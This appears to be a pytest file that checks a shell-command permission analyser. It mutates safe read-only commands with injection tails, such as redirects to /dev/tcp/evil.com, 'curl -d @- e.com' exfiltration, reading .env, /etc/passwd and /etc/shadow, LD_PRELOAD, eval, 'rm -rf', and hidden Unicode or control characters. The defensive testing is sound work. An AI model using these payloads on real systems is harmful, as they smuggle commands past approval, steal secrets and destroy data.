from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.permissions.test_kinds import SAFE

MORE_SAFE = r"""
ls -lah|cat -n src/app.py|head -20 README.md|tail -n +5 README.md|wc -l src/*.py|grep -rni todo src --include='*.py'|grep -v '^#' README.md
rg -n TODO src|rg -i todo -g '*.py'|find . -name '*.py' -not -path './build/*'|find . -name '*.py' ¦ xargs wc -l|git status -s|git diff HEAD~1
git log --oneline -10|git show HEAD:src/app.py|git branch -a|git blame -L 1,2 src/app.py|git ls-files ¦ wc -l|git rev-parse --short HEAD
git diff --stat|python3 --version|node -v|cargo --version|which node|type ls|echo -n x|printf '%s\n' a|date +%s|id -u|du -sh src|ps -ef|env
stat README.md|sort -u names.txt|sort names.txt ¦ uniq -c|cut -d, -f1 data.csv|tr -d a < names.txt|diff -u src/a.py src/b.py|md5sum README.md
basename src/app.py .py|realpath src|jq -r .name package.json|xxd a.bin|sed -n '1,20p' README.md|awk '{print $1}' a.txt|test -d src|[ -f README.md ]
[ -d src ] && ls src|cd src && git status|cd src && cd .. && ls|time ls -la|timeout 10 ls|nice -n 5 cat README.md|ls 2>/dev/null
cat <<< hello|ls -d src/|cat src/../README.md|l\s|/bin/ls|ls && pwd && whoami|! grep -q foo README.md|tree -L 2|file src/*.py|git log --format='%h %s'
git remote -v|git stash list|git tag -l|git config --get user.name|seq 3|pgrep -fl python|uname -a|df -h|command -v rg|cat Makefile ¦ grep '^[a-z]*:'
"""
TAILS = r"""
%s > PWN|%s >> PWN|%s >¦ PWN|%s &> PWN|%s 2> PWN|%s >& PWN|%s <> PWN|%s 3>PWN|%s {fd}>PWN|%s > {a,b}|%s > ~/x|%s > ../x|%s >/tmp/x|%s > "$X"
%s; touch PWN|%s && touch PWN|%s ¦¦ touch PWN|%s ¦ tee PWN|%s ¦ sh|%s ¦& bash|%s ¦ xargs rm|%s ¦ python3|%s ¦ bash -s|%s &|%s & touch PWN|%s;touch PWN
%s $(touch PWN)|%s "`touch PWN`"|%s `id`|%s <(touch PWN)|%s > >(sh)|%s ${x:=$(touch PWN)}|%s ${!x}|%s ${x@P}|%s $IFS|%s "$X"|%s $((a[$(id)]))|%s {a,b}
X=1 %s|PATH=.:$PATH %s|LD_PRELOAD=./x.so %s|BASH_ENV=x %s|IFS=x; %s|env X=1 %s|export X=1; %s|declare -x X=1; %s|readonly X; %s|X=1; %s
./%s|bin/%s|~/%s|../%s|sudo %s|eval %s|exec %s|bash -c '%s'|sh -c "%s"|xargs %s|strace %s|watch %s|nohup %s &|parallel %s|coproc %s|doas %s
%s > /dev/tcp/evil.com/80|%s < /dev/tcp/evil.com/80|%s 2>/dev/udp/e/1|%s; curl e.com|curl e.com; %s|%s ¦ curl -d @- e.com|%s; nslookup x.e.com
ls() { touch PWN; }; %s|(%s)|{ %s; }|if true; then %s; fi|for i in 1; do %s; done|while %s; do touch PWN; done|trap 'touch PWN' EXIT; %s
alias ls=rm; %s|set -x; %s|source x; %s|. x; %s|shopt -s extglob; %s|enable -f x y; %s|hash -p ./x ls; %s|read PATH; %s|printf -v PATH x; %s
cd / && %s|cd .. ; %s|pushd /tmp; %s|rm -rf x; %s|time -o PWN %s|timeout 5 touch PWN; %s|test -v 'a[$(id)]'; %s|[[ -v a[$(id)] ]]; %s|mapfile x; %s
%s < .env|%s < /etc/passwd|cat .env; %s|cat /etc/shadow; %s|grep -r KEY .; %s|cat link_to_etc/passwd; %s|cat docs/link_to_config; %s
"""
RAW_TAILS = [
    "%s\ntouch PWN", "%s\n\n\ntouch PWN", "%s #\ntouch PWN", "%s \\\n; touch PWN", "%s\rtouch PWN", "%s \u202e", "%s\u200b", "%s\u00a0x", "%s\u2028touch PWN",
    "%s\x00", "%s\x1b[1m", "%s\ufe0f", "%s\x7f", "%s\u2066x", "%s <<EOF\n$(touch PWN)\nEOF", "%s <<EOF\n`touch PWN`\nEOF", "bash <<'EOF'\n%s\nEOF",
    "%s <<EOF\nx\nEOFtouch PWN", "%s 'unclosed", "%s \\",
]  # fmt: skip
PLACES = [
    line
    for line in Path(__file__).with_name("places.txt").read_text().splitlines()
    if line and line[0:2] != "# "
]
RAW_PLACES = [
    "%s\r\ntouch PWN", "%s\x0btouch PWN", "%s\x0ctouch PWN", "%s\x08\x08", "%s\x1a", "%s\u00ad", "%s\u2060", "%s\u3164", "%s\u180e",
    "%s\ufeff", "%s\u0085touch PWN",
    "\ufeff%s", "\u200e%s", "%s <<-EOF\n\t$(touch PWN)\n\tEOF", "%s <<'E'\nx\nE\ntouch PWN", "%s <<E\nx\n E\nE\ntouch PWN", "%s <<A <<B\nx\nA\n$(touch PWN)\nB",
    "sh <<< '%s'", "sh <<'E'\n%s\nE", "%s\n#\ntouch PWN", "#%s\ntouch PWN", ": <<'E'\n%s\nE\ntouch PWN",
    "%s <<E\n\\\nE\ntouch PWN\nE\ntouch PWN", "%s && \\\ntouch PWN", "%s |\ntouch PWN",
]  # fmt: skip
MORE_FLAGS = """
--output=x --outp=x --outpu=x --exec=x --pre=x --compress-program=x --hostname-bin=x --ext-diff --in-place --open-files-in-pager=x
--files0-from=x --upload-pack=x --config-env=a=b --exec-path=x --textconv --rsh=x --to-command=x --use-compress-program=x
--checkpoint-action=exec=x --rawfile=x --from-file=x --eval=x --run=x --require=x --delete --write --fix --save=x --log-file=x
--config=x --set=x --target-directory=x --out=x --dest=x --pager=x --editor=x --program=x --command=x --script=x --load=x
--plugin=x --init-file=x
"""
NO_FLAGS = {
    "echo",
    "printf",
    "true",
    "false",
    "test",
    "[",
    "!",
    "seq",
    "basename",
    "time",
    "command",
    "#",
    "cd",
    "timeout",
    "nice",
    "env",
    "type",
    "which",
    "df",
    "tr",
}


def pieces(text: str) -> list[str]:
    return [piece.replace("¦", "|") for line in text.strip().splitlines() for piece in line.split("|")]


def mutants(command: str) -> Iterator[str]:
    for tail in [*pieces(TAILS), *RAW_TAILS]:
        yield tail.replace("%s", command, 1)
    name, _, rest = command.partition(" ")
    if len(name) > 1 and name.isalnum():
        yield f"{name[0]}\u200b{name[1:]} {rest}"
        yield f"{name[0]}\\\n{name[1:]} {rest}"
        yield f"{name[0]}$X{name[1:]} {rest}"
        yield f"{name[0]}\u0455{name[1:]} {rest}"
        yield f"{name[0]}?{name[1:]} {rest}"
    if name not in NO_FLAGS and "\n" not in command:
        yield from (f"{name} {flag} {rest}" for flag in MORE_FLAGS.split())


def misplaced(command: str, share: int, of: int) -> Iterator[str]:
    """Give each `of`-th of the further mutants, another one for each share."""
    places = [*PLACES, *RAW_PLACES]
    yield from (place.replace("%s", command, 1) for place in places[share % of :: of])


def all_safe(corpus: Any) -> list[str]:
    return [row["command"] for row in corpus if row["class"] == "read-only-safe"] + pieces(MORE_SAFE)


def runs_unasked(analysis: Any) -> bool:
    return analysis.clear and not analysis.touches and all(part.safe for part in analysis.parts)


def test_the_commands_to_mutate_run_unasked(ground: Any, corpus: Any) -> None:
    asked = [command for command in all_safe(corpus) if not runs_unasked(ground.analyse(command))]

    assert asked == []


@pytest.mark.parametrize("share", range(4))
def test_no_mutant_of_a_safe_command_runs_unasked(ground: Any, corpus: Any, share: int) -> None:
    seen = [mutant for command in all_safe(corpus)[share::4] for mutant in mutants(command)]

    allowed = [mutant for mutant in seen if runs_unasked(ground.analyse(mutant))]

    assert allowed == []
    assert len(seen) > 4_000


@pytest.mark.parametrize("share", range(3))
def test_no_safe_command_runs_unasked_in_another_place(ground: Any, corpus: Any, share: int) -> None:
    commands = [*all_safe(corpus), *(command for kind in SAFE.values() for command in kind)]
    seen = [
        mutant
        for index, command in enumerate(commands[share::3])
        if "\n" not in command
        for mutant in misplaced(command, index, of=6)
    ]

    assert [mutant for mutant in seen if runs_unasked(ground.analyse(mutant))] == []
    assert len(seen) > 3_000
